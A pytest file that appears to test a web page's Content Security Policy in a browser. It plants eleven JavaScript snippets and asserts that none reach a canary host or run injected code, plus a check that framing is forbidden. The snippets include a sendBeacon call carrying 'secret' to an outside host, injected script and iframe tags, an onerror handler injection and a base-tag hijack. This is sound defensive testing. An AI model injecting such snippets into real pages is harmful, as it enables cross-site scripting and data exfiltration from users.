"""The page's policy, tried in a browser: what is planted in it loads nothing and runs nothing."""

import pytest

PLANTED = {
    "an image": "(new Image()).src = HOST + '/image'",
    "a request": "fetch(HOST + '/fetch').catch(() => {})",
    "a beacon": "navigator.sendBeacon(HOST + '/beacon', 'secret')",
    "a socket": "try { new WebSocket(HOST.replace('http', 'ws') + '/ws') } catch {}",
    "a script": "document.body.append(Object.assign(document.createElement('script'), "
    "{src: HOST + '/script.js'}))",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{src: HOST + '/frame'}))",
    "a style": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: HOST + '/style.css'}))",
    "a form": "(() => { const form = document.createElement('form'); form.action = HOST + '/form'; "
    "document.body.append(form); form.submit() })()",
    "a script in the page": "document.body.append(Object.assign(document.createElement('script'), "
    "{textContent: 'window.planted = true'}))",
    "a handler": "document.body.insertAdjacentHTML('beforeend', "
    "'<img src=data:, onerror=\"window.planted = true\">')",
    "a base": "document.head.append(Object.assign(document.createElement('base'), {href: HOST}))",
}


@pytest.fixture(scope="module")
def server(serve):
    return serve([{"text": "Open the lid."}])


@pytest.mark.parametrize("how", PLANTED)
def test_s35_what_is_planted_in_the_page_reaches_nobody(server, visit, canary, how):
    host, hits = canary
    visited = visit(server.url)
    visited.connected()
    visited.watch.allow(f"Content Security Policy|Refused|violates|^request to {host}")
    before = list(hits)
    refused = visited.page.evaluate(
        f"""HOST => new Promise(resolve => {{
            addEventListener("securitypolicyviolation", event => resolve(event.violatedDirective));
            {PLANTED[how]};
        }})""",
        host,
    )
    assert "-" in refused
    assert hits == before
    assert visited.page.evaluate("window.planted") is None
    assert visited.page.url.startswith(server.url)


def test_s35_nobody_may_frame_the_page(server, visit, canary):
    visited = visit(server.url)
    response = visited.page.request.get(server.url)
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
